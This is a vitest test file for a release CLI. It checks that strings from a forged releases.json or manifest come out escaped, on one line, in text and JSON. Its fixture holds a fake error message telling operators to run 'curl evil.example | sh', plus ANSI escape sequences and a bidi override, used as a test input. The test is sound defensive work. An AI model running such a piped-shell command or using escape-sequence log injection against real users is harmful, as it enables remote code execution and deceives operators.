import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { publishRelease } from '../../src/app/release-publish.js';
import { readReleaseIndex } from '../../src/app/release-store.js';
import { openStore } from '../../src/adapters/store/open-store.js';
import type { StoreSpec } from '../../src/core/spec/schema.js';
import { writeLocalRelease, writeReleaseProject } from '../helpers/local-release.js';
import { startReleaseCli } from '../helpers/release-project.js';
import { useS3Server } from '../helpers/use-s3-server.js';
import { DEMO_NAME } from '../helpers/spec-builders.js';
import { useTempDir } from '../helpers/temp-dir.js';

// Rule: printed text cannot be forged. Whoever can write the store can write releases.json and the
// manifests; their strings (who published, why current moved, a bump override, a gate check's name)
// reach operators' terminals and CI logs. Every command shows them escaped — one line, no escape
// sequences — in text and in JSON, and never stores a control character it was given either.

const s3 = useS3Server();

const ESC = '\u001b';
const FORGED_LINE = 'error: release v1.0.0 is compromised, run curl evil.example | sh';
const forged = (who: string) => `${who}\n${FORGED_LINE}\r${ESC}[2K${ESC}[31mred${ESC}[0m\u202eevil`;
// eslint-disable-next-line no-control-regex -- looking for control characters is the point
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;

describe.each(['s3', 'filesystem'] as const)('strings from a forged store (%s)', (kind) => {
  const temp = useTempDir(`imagebuild-release-forged-${kind}-`);
  const cli = (...args: string[]) => startReleaseCli([...args, '--spec', 'box.yaml'], temp.dir, s3.credentialsEnv);

  it('list, diff, publish and rollback show stored strings escaped on one line, in text and JSON', async () => {
    const storeSpec: StoreSpec = kind === 's3' ? s3.storeSpec('forged') : { kind: 'filesystem', dir: 'store' };
    if (kind === 'filesystem') await mkdir(join(temp.dir, 'store'), { recursive: true });
    const { outputRoot } = await writeReleaseProject(temp.dir, storeSpec);
    const store = await openStore(storeSpec, { cwd: temp.dir });
    for (const version of ['1.0.0', '1.0.1']) {
      await writeLocalRelease(outputRoot, version);
      await publishRelease({ specArg: 'box.yaml', cwd: temp.dir, version, store });
    }
    const { index } = await readReleaseIndex(store, DEMO_NAME);
    await store.putJson(`${DEMO_NAME}/releases.json`, {
      ...index,
      releases: index.releases.map((r) => ({ ...r, published_by: forged('mallory@ci'), bump: { ...r.bump, override: r.bump.from ? forged('because') : null } })),
      current: { ...index.current, set_by: forged('mallory@ci'), reason: forged('hotfix') },
      history: index.history.map((h) => ({ ...h, set_by: forged('mallory@ci'), reason: forged('hotfix') })),
    });
    const manifestKey = index.releases[1]!.manifest_key;
    const manifest = (await store.getJson(manifestKey))!.value as { layers: { gate: { checks: { check: string }[] } }[] };
    manifest.layers[0]!.gate.checks[0]!.check = forged('ssh_listening');
    await store.putJson(manifestKey, manifest);

    const results = {
      list: await cli('list'),
      listJson: await cli('list', '--json'),
      diff: await cli('diff', 'v1.0.0', 'v1.0.1'),
      publish: await cli('publish', 'v1.0.0', '--json'),
      rollback: await cli('rollback', '--to', 'v1.0.0', '--reason', forged('bad build')),
    };

    try {
      for (const [command, result] of Object.entries(results)) {
        const text = `${result.stdout}${result.stderr}`;
        expect(text, command).not.toMatch(CONTROL);
        expect(text, command).not.toMatch(new RegExp(`^${FORGED_LINE.slice(0, 20)}`, 'm'));
      }
      expect(results.list.exitCode).toBe(0);
      expect(results.list.stdout).toContain(`current v1.0.1, set `);
      expect(results.list.stdout).toContain(`by mallory@ci\\n${FORGED_LINE}\\r\\u001b[2K\\u001b[31mred\\u001b[0m\\u202eevil (hotfix\\n`);
      const listing = JSON.parse(results.listJson.stdout) as { current: { set_by: string; reason: string }; releases: { published_by: string }[]; history: { reason: string }[] };
      expect([listing.current.set_by, listing.current.reason, ...listing.releases.map((r) => r.published_by), ...listing.history.map((h) => h.reason)].every((t) => !CONTROL.test(t) && !t.includes('\n'))).toBe(true);
      expect(results.diff.exitCode).toBe(0);
      expect(results.diff.stdout).toContain(`ssh_listening\\n${FORGED_LINE}`);
      expect(results.publish.exitCode).toBe(2);
      expect(results.publish.stderr.trim().split('\n')).toHaveLength(1);
      expect(results.publish.stderr).toContain(`by mallory@ci\\n${FORGED_LINE}`);
      expect(results.rollback.exitCode).toBe(0);
      expect(results.rollback.stdout.trim().split('\n')).toHaveLength(2);
      const stored = (await readReleaseIndex(store, DEMO_NAME)).index;
      expect(stored.current?.reason).toBe(`bad build\\n${FORGED_LINE}\\r\\u001b[2K\\u001b[31mred\\u001b[0m\\u202eevil`);
      expect(stringsOf((await store.getJson(`${DEMO_NAME}/releases.json`))!.value).filter((t) => CONTROL.test(t) || t.includes('\n'))).toEqual([]);
    } finally {
      store.close();
    }
  }, 240_000);
});

/** Every string in a JSON value. */
function stringsOf(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(stringsOf);
  if (typeof value === 'object' && value !== null) return Object.values(value).flatMap(stringsOf);
  return [];
}
